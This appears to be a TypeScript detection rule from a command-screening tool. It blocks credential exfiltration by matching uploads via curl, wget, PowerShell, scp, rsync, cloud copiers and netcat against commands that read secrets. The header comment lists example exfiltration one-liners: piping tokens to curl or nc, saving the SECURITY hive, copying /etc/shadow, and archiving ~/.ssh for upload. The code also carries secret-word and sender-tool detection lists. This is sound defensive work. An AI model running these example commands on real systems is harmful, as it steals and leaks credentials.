/**
 * Credentials sent to another machine after they were gathered: `env | grep -i token | curl -d @- URL`,
 * `find / -name wp-config.php -exec grep DB_PASSWORD {} \; | nc host 443`, or a file filled by a
 * credential-access command (`reg save HKLM\SECURITY s.hiv`, `cp /etc/shadow /tmp/.b`, `tar czf k.tgz
 * ~/.ssh`) and uploaded by a later one (`curl -F f=@s.hiv URL`, `curl -T /tmp/.b URL`,
 * `Invoke-RestMethod -InFile s.hiv`). The upload is what a session's last line adds: without this it
 * reads as an ordinary HTTP post of a file.
 *
 * Part of the credential-access family: it reads the findings the family's other checks made, so a
 * collector is whatever those checks recognise, and the rule grows with them.
 */
import { firstAtLeast } from '../analysis/builder';
import { fileKey, pipelineNeighbours } from '../analysis/semantics';
import type { Document, SimpleCommand, Word } from '../analysis/document';
import {
  commandWord,
  invocations,
  isRemote,
  positionals,
  writeTargets,
  type FindingCollector,
  type FindingSpec,
  type Invocation,
} from './command-match';
import type { Span } from '../types';

const SPEC_BASE = { code: 'credential_access', standard: 'block', extended: 'block' } as const;

function spec(ruleId: string, message: string): FindingSpec {
  return {
    ...SPEC_BASE,
    ruleId,
    message,
    remedy: 'Credentials do not leave the endpoint through a technician session; rotate them if this ran.',
  };
}

// ---------------------------------------------------------------------------------------------
// What an upload sends

/** A local file or standard input (`-`) that a command sends to another machine. */
interface Upload {
  word: Word;
  /** The file's path, or '-' for standard input. */
  path: string;
}

/** curl options whose value names data to send, with `@file` (or `<file` for -F) reading a file. */
const CURL_DATA_OPTIONS: ReadonlySet<string> = new Set([
  '-d',
  '--data',
  '--data-binary',
  '--data-ascii',
  '--data-urlencode',
  '--json',
  '-F',
  '--form',
]);
const CURL_UPLOAD_FILE_OPTIONS: ReadonlySet<string> = new Set(['-T', '--upload-file']);

/** The file named by a curl data value: `@f`, `name=@f;type=x`, `name=<f`, `name@f` (--data-urlencode). */
function curlDataFile(value: string, form: boolean): string | undefined {
  let at = value.indexOf('@');
  if (form) {
    const equals = value.indexOf('=');
    if (equals < 0) return undefined;
    const c = value[equals + 1];
    if (c !== '@' && c !== '<') return undefined;
    at = equals + 1;
  } else if (at < 0 || (at > 0 && !/^[\w.-]*=?$/.test(value.slice(0, at)))) return undefined;
  let path = value.slice(at + 1);
  const semicolon = form ? path.indexOf(';') : -1;
  if (semicolon >= 0) path = path.slice(0, semicolon);
  return path === '' ? undefined : path;
}

/** curl's short options that take no value, which may come bundled before the one that does (`-sT -`, `-sd@f`). */
const CURL_SHORT_FLAGS = new Set('sSfkLviIgGNnqORJ0123456lpjZ#'.split(''));

/** A short-option word's upload option and attached value: `-T` → ['-T', ''], `-sd@f` → ['-d', '@f']. */
function curlShortOption(v: string): [option: string, attached: string] | undefined {
  if (v.length < 2 || v[0] !== '-' || v[1] === '-') return undefined;
  for (let k = 1; k < v.length; k++) {
    const c = v[k] as string;
    if (c === 'T' || c === 'd' || c === 'F') return ['-' + c, v.slice(k + 1)];
    if (!CURL_SHORT_FLAGS.has(c)) return undefined;
  }
  return undefined;
}

function curlUploads(inv: Invocation, out: Upload[]): void {
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    let option: string;
    let value: string | undefined;
    let word: Word | undefined = w;
    const short = curlShortOption(w.value);
    if (CURL_DATA_OPTIONS.has(w.value) || CURL_UPLOAD_FILE_OPTIONS.has(w.value) || (short !== undefined && short[1] === '')) {
      option = short?.[0] ?? w.value;
      word = args[++i];
      value = word?.value;
    } else if (short !== undefined) [option, value] = short;
    else continue;
    if (value === undefined || word === undefined) continue;
    let path: string | undefined;
    if (CURL_UPLOAD_FILE_OPTIONS.has(option)) path = value === '.' ? '-' : value;
    else path = curlDataFile(value, option === '-F' || option === '--form');
    if (path !== undefined) out.push({ word, path });
  }
}

/** `Invoke-RestMethod -InFile f` (any unambiguous prefix: `-InformationAction` shares `-in`). */
function isInFileParameter(lower: string): boolean {
  const colon = lower.indexOf(':');
  const name = colon > 0 ? lower.slice(0, colon) : lower;
  return name.length >= 5 && '-infile'.startsWith(name);
}

function powerShellUploads(inv: Invocation, out: Upload[]): void {
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (!isInFileParameter(w.lower)) continue;
    const colon = w.value.indexOf(':');
    const attached = colon > 0 ? w.value.slice(colon + 1) : '';
    const file = attached !== '' ? w : args[i + 1];
    if (file) out.push({ word: file, path: attached !== '' ? attached : file.value });
  }
}

function wgetUploads(inv: Invocation, out: Upload[]): void {
  const args = inv.args;
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    for (const option of ['--post-file', '--body-file']) {
      if (w.value === option && args[i + 1]) out.push({ word: args[i + 1] as Word, path: (args[i + 1] as Word).value });
      else if (w.value.startsWith(option + '=')) out.push({ word: w, path: w.value.slice(option.length + 1) });
    }
  }
}

/** `user@host:path`, `host:path`, `rsync://…` (a drive letter `C:` is local). */
function isRemoteCopyTarget(value: string): boolean {
  if (value.includes('://')) return true;
  const colon = value.indexOf(':');
  return colon > 1 && !value.slice(0, colon).includes('/') && !value.slice(0, colon).includes('\\');
}

/** scp, rsync and the cloud copy tools (`aws s3 cp f s3://b`): every positional before a remote last one. */
const OPTIONS_WITH_VALUE: ReadonlyMap<string, ReadonlySet<string>> = new Map([
  ['scp', new Set(['-c', '-F', '-i', '-J', '-l', '-o', '-P', '-S'])],
  ['rsync', new Set(['-e', '--rsh', '-f', '--filter', '-B', '-M', '--exclude', '--include', '--exclude-from', '--include-from'])],
  ['aws', new Set(['--profile', '--region', '--endpoint-url'])],
  ['gsutil', new Set(['-o', '-h', '-p'])],
  ['rclone', new Set(['--config', '--include', '--exclude', '--filter'])],
]);
const COPY_VERBS: ReadonlySet<string> = new Set(['s3', 'cp', 'copy', 'copyto', 'sync', 'mv', 'move']);

function remoteCopyUploads(inv: Invocation, out: Upload[]): void {
  const words: Word[] = [];
  const args = inv.args;
  const withValue = OPTIONS_WITH_VALUE.get(inv.name);
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (withValue?.has(w.value)) i++;
    else if (!w.value.startsWith('-')) words.push(w);
  }
  const last = words[words.length - 1];
  if (!last || words.length < 2 || !isRemoteCopyTarget(last.value)) return;
  for (const w of words.slice(0, -1)) if (!COPY_VERBS.has(w.lower) && !isRemoteCopyTarget(w.value)) out.push({ word: w, path: w.value });
}

/** Programs that send whatever they read on standard input to a host named on their command line. */
const STREAM_SENDERS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);

function streamUploads(inv: Invocation, out: Upload[]): void {
  // `nc host port < f`: the redirected file; `… | nc host port`: standard input. Listening (-l) receives.
  if (inv.args.some((w) => w.value === '-l' || w.value === '--listen' || /^-[a-z]*l/.test(w.value))) return;
  if (positionals(inv.args).length === 0) return;
  const input = inv.command.redirects.find((r) => r.op === '<');
  out.push(input ? { word: input.target, path: input.target.value } : { word: inv.nameWord ?? inv.args[0]!, path: '-' });
}

const UPLOADERS = new Map<string, (inv: Invocation, out: Upload[]) => void>([
  ['curl', (inv, out) => (curlUploads(inv, out), powerShellUploads(inv, out))],
  ['wget', (inv, out) => (wgetUploads(inv, out), powerShellUploads(inv, out))],
  ['invoke-restmethod', powerShellUploads],
  ['invoke-webrequest', powerShellUploads],
  ['irm', powerShellUploads],
  ['iwr', powerShellUploads],
  ['scp', remoteCopyUploads],
  ['rsync', remoteCopyUploads],
  ['aws', remoteCopyUploads],
  ['gsutil', remoteCopyUploads],
  ['rclone', remoteCopyUploads],
  ...[...STREAM_SENDERS].map((n): [string, (inv: Invocation, out: Upload[]) => void] => [n, streamUploads]),
]);

/** What an invocation uploads, when it reaches another machine (a URL or host on its command line). */
function uploadsOf(inv: Invocation): Upload[] {
  const read = UPLOADERS.get(inv.name);
  if (read === undefined) return [];
  const out: Upload[] = [];
  read(inv, out);
  if (out.length === 0) return out;
  // A stream sender names its host bare; the others need a URL or a remote copy target.
  const reachesOut = STREAM_SENDERS.has(inv.name) || inv.args.some((w) => isRemote(w.value) || isRemoteCopyTarget(w.value));
  return reachesOut ? out : [];
}

// ---------------------------------------------------------------------------------------------
// What holds secrets

/** Words of a search pattern that name secrets (`DB_PASSWORD` → password; `aws_|token` → token). */
const SECRET_WORDS: ReadonlySet<string> = new Set([
  'password',
  'passwd',
  'pwd',
  'secret',
  'secrets',
  'token',
  'tokens',
  'apikey',
  'credential',
  'credentials',
  'creds',
  'privatekey',
  'accesskey',
]);

/**
 * Whether a search pattern asks for secrets. Alternatives split on `|` and `,`; an alternative holding a
 * space is a phrase (`Failed password` is a log search) and does not count. `api_key` reads as apikey.
 */
function patternAsksForSecrets(lower: string): boolean {
  for (const alternative of lower.split(/[|,()]/)) {
    if (alternative.includes(' ') || alternative.length > 64) continue;
    const parts = alternative.split(/[^a-z]+/).filter((p) => p !== '');
    if (parts.some((p) => SECRET_WORDS.has(p)) || SECRET_WORDS.has(parts.join(''))) return true;
  }
  return false;
}

const SEARCHERS: ReadonlySet<string> = new Set(['grep', 'egrep', 'fgrep', 'rg', 'ag', 'findstr', 'select-string', 'sls', 'awk']);
/** Printing every environment variable: CI tokens, cloud keys and database URLs live there. */
const ENVIRONMENT_DUMPERS: ReadonlySet<string> = new Set(['env', 'printenv', 'set', 'export', 'declare', 'compgen']);
const POWERSHELL_LISTERS: ReadonlySet<string> = new Set(['get-childitem', 'gci', 'dir', 'ls', 'get-item', 'gi']);

/** Why a command's output holds secrets, or undefined. `findingStarts`: where the family's findings begin, sorted. */
function secretOutput(cmd: SimpleCommand, findingStarts: readonly number[]): string | undefined {
  if (judgedByFamily(cmd, findingStarts)) return `credentials (${cmd.name})`;
  const words = cmd.words;
  const name = cmd.name;
  if (ENVIRONMENT_DUMPERS.has(name)) {
    // `env` and `printenv` alone, `set` alone, `export -p`, `declare -x`: a listing, not an assignment or a run.
    const rest = words.slice(1).map((w) => w.lower);
    if (rest.length === 0 || (rest.length === 1 && (rest[0] === '-p' || rest[0] === '-x' || rest[0] === '-0' || rest[0] === '-e')))
      return 'every environment variable';
    return undefined;
  }
  if (POWERSHELL_LISTERS.has(name) && words.some((w, k) => k > 0 && /^env:[\\/]?$/.test(w.lower))) return 'every environment variable';
  if (SEARCHERS.has(name)) return searchForSecrets(words, 1);
  // `find / -name wp-config.php -exec grep DB_PASSWORD {} \;`, `… | xargs grep -i token`.
  if (name === 'find' || name === 'xargs') {
    const at = words.findIndex((w, k) => k > 0 && SEARCHERS.has(w.lower));
    if (at > 0) return searchForSecrets(words, at + 1);
  }
  return undefined;
}

/** The search's pattern (its first word that is not an option, or the value of -e / -Pattern) when it asks for secrets. */
function searchForSecrets(words: readonly Word[], from: number): string | undefined {
  for (let k = from; k < words.length; k++) {
    const w = words[k] as Word;
    const l = w.lower;
    if (l === '-e' || l === '--regexp' || l === '-pattern') continue;
    if (l.startsWith('-')) continue;
    return patternAsksForSecrets(l) ? `lines matching ${w.value}` : undefined;
  }
  return undefined;
}

/** Whether one of the family's findings begins in the command (`findingStarts` sorted). */
function judgedByFamily(cmd: SimpleCommand, findingStarts: readonly number[]): boolean {
  const first = firstAtLeast(findingStarts, cmd.span.start);
  return first < findingStarts.length && (findingStarts[first] as number) < cmd.span.end;
}

// ---------------------------------------------------------------------------------------------
// The check

/**
 * Blocks an upload whose data holds secrets: standard input fed by a pipeline that reads them, or a file an
 * earlier command of the text (or the session) filled with them. Runs after the family's other checks.
 */
export function checkCredentialExfiltration(doc: Document, out: FindingCollector): void {
  const invs = invocations(doc);
  let uploads: { inv: Invocation; upload: Upload }[] | undefined;
  for (let i = 0; i < invs.length; i++) {
    const inv = invs[i] as Invocation;
    if (!UPLOADERS.has(inv.name)) continue;
    for (const upload of uploadsOf(inv)) (uploads ??= []).push({ inv, upload });
  }
  if (uploads === undefined) return;

  const findingStarts: number[] = [];
  for (const f of out.findings) for (const s of f.spans) findingStarts.push(s.start);
  findingStarts.sort((a, b) => a - b);

  let staged: Map<string, { at: Span; what: string }> | undefined;
  for (const { inv, upload } of uploads) {
    if (upload.path === '-') {
      const source = pipelineNeighbours(doc, inv.command, 'before')
        .map((c) => secretOutput(c, findingStarts))
        .find((what) => what !== undefined);
      if (source)
        out.add(
          spec('cred.exfil-pipe', `${inv.name} sends ${source}, piped into it, to another machine: credential exfiltration (blocked).`),
          [commandWord(inv), upload.word],
        );
      continue;
    }
    staged ??= stagedSecretFiles(invs, findingStarts);
    const found = staged.get(fileKey(upload.path));
    if (found === undefined || found.at.start >= inv.command.span.start) continue;
    out.add(
      spec(
        'cred.exfil-staged',
        `${inv.name} sends ${upload.word.value} to another machine; an earlier command filled it with ${found.what}: credential exfiltration (blocked).`,
      ),
      [commandWord(inv), upload.word],
    );
  }
}

/**
 * File name key → where and what: the files written by a pipeline whose output holds secrets — by the source itself or
 * a later command of the pipeline (redirect, tee, Out-File, copy: `writeTargets`). A command the family judged may also
 * write anywhere among its words (reg save's file, tar's archive).
 */
function stagedSecretFiles(invs: readonly Invocation[], findingStarts: readonly number[]): Map<string, { at: Span; what: string }> {
  const sources = new Map<number, { position: number; at: Span; what: string }>();
  for (const inv of invs) {
    const cmd = inv.command;
    const what = secretOutput(cmd, findingStarts);
    const known = sources.get(cmd.pipeline);
    if (what !== undefined && (known === undefined || cmd.position < known.position))
      sources.set(cmd.pipeline, { position: cmd.position, at: cmd.span, what });
  }
  const staged = new Map<string, { at: Span; what: string }>();
  if (sources.size === 0) return staged;
  for (const inv of invs) {
    const source = sources.get(inv.command.pipeline);
    if (source === undefined || inv.command.position < source.position) continue;
    const written = [...writeTargets(inv)];
    if (judgedByFamily(inv.command, findingStarts)) for (const w of inv.args) if (!w.lower.startsWith('-')) written.push(w);
    for (const w of written) {
      const key = fileKey(w.value);
      if (key !== '' && !staged.has(key)) staged.set(key, { at: source.at, what: source.what });
    }
  }
  return staged;
}
